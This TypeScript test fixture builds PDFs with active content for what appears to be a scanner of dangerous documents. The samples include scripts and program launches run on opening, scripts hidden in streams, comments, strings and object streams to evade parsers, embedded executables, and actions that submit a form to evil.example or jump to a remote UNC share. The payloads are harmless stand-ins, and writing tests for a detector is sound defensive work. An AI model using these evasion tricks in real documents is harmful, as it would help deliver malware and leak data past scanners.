import {
  certificate,
  FONT_5,
  packedStreamOf,
  packObjects,
  streamOf,
  writePackedPdf,
  writePdf,
  writeRevision,
} from './pdf-writer.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const LAUNCH = '<< /S /Launch /F (calc.exe) >>';
const FILE = streamOf('MZ...', '/Type /EmbeddedFile');

const onOpen = (action: string) => certificate({ catalog: `/OpenAction ${action}` });
const annotated = (annotation: string, ...more: string[]) =>
  certificate({ page: `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${annotation} >>]`, more });
const attached = certificate({
  catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
  more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', FILE],
});
const hex = (data: string, entries: string) =>
  streamOf(`${Buffer.from(data, 'latin1').toString('hex')}>`, `${entries} /Filter /ASCIIHexDecode`);

/** An ordinary file with an object where no parser that reads from top to bottom looks for one. */
const hidden = (hide: (object: string) => string) =>
  writePdf(certificate({ more: [hide(`7 0 obj\n${SCRIPT}\nendobj`)] }), { trailer: '/Info 6 0 R' });

/** They do something when opened, or carry something. */
export const activePdfs = (): Record<string, Buffer> => ({
  'a script on opening': writePdf(onOpen(SCRIPT)),
  'a script on opening, in an object stream': writePackedPdf(onOpen(SCRIPT)),
  'a script in an object stream in hexadecimal': writePackedPdf(onOpen(SCRIPT), { pack: hex }),
  'a script in an object stream that is not packed': writePackedPdf(onOpen(SCRIPT), { pack: streamOf }),
  'a script in an object stream that does not say so': writePackedPdf(onOpen(SCRIPT), {
    pack: (data, entries) => packedStreamOf(data, entries.replace('/Type /ObjStm', '')),
  }),
  'a script in the tree of names': writePdf(
    certificate({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  ),
  'a script by an escaped name': writePdf(onOpen('<< /S /J#61vaScript /#4A#53 (app.alert) >>')),
  'a script whose kind is another object': writePdf([...onOpen('<< /S 6 0 R /K (x) >>'), '/JavaScript']),
  'a script when the page opens': writePdf(certificate({ page: `/AA << /O ${SCRIPT} >>` })),
  'a script in a form field': writePdf(annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${SCRIPT} >>`)),
  'a script in an outline': writePdf(
    certificate({
      catalog: '/Outlines 6 0 R',
      more: ['<< /First 7 0 R /Last 7 0 R >>', `<< /Title (a) /Parent 6 0 R /A ${SCRIPT} >>`],
    }),
  ),
  'a script in the trailer': writePdf(certificate(), { trailer: `/X ${SCRIPT}` }),
  'a script in an older revision': writeRevision(writePdf(onOpen(SCRIPT)), { 1: certificate()[0] ?? '' }),
  'a script in an object with a second, harmless one of its number': writePdf([
    ...certificate(),
    `${SCRIPT}\nendobj\n6 0 obj\n<< >>`,
  ]),
  'a program whose first kind says so and whose second does not': writePdf(
    onOpen('<< /S /Launch /S /URI /F (calc.exe) /URI (https://example.com) >>'),
  ),
  'a script hidden in a stream': hidden((object) => streamOf(object)),
  'a script hidden in a comment': hidden((object) => `<< >> % ${object.replaceAll('\n', ' ')}\n`),
  'a script hidden in a string': hidden((object) => `<< /Title (${object}) >>`),
  'a script hidden behind a comment in a header': hidden((object) => streamOf(object.replace('7 0', '7 % x\n0 % y\n'))),
  'a script in an object stream hidden in a stream': hidden(() =>
    streamOf(`7 0 obj\n${packObjects([{ number: 8, body: SCRIPT }])}\nendobj`),
  ),
  'a program to start': writePdf(onOpen(LAUNCH)),
  'a program to start, in an object stream': writePackedPdf(onOpen(LAUNCH)),
  'an embedded file': writePdf(attached),
  'an embedded file, named in an object stream': writePackedPdf(attached),
  'an attachment on the page': writePdf(annotated('/Subtype /FileAttachment /FS << /Type /Filespec /F (a) >>')),
  'rich media': writePdf(annotated('/Subtype /RichMedia /RichMediaContent << >>')),
  'a film': writePdf(annotated('/Subtype /Movie /Movie << /F (a.avi) >>')),
  'a sound': writePdf(onOpen('<< /S /Sound /Sound 6 0 R >>').concat(streamOf('....', '/R 8000'))),
  'a rendition': writePdf(annotated('/Subtype /Screen /A << /S /Rendition /OP 0 >>')),
  'an XFA form': writePdf(
    certificate({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [streamOf('<xdp/>')] }),
  ),
  'a form that submits itself': writePdf(onOpen('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>')),
  'a form that reads a file': writePdf(onOpen('<< /S /ImportData /F (a.fdf) >>')),
  'a jump into another file': writePdf(onOpen('<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>')),
  'a jump into an embedded file': writePdf(onOpen('<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>')),
  'a picture that is a script as well': writePdf(
    certificate({ resources: `${FONT_5} /XObject << /Im0 6 0 R >>`, more: [streamOf('x', '/Subtype /Image /JS (a)')] }),
  ),
});
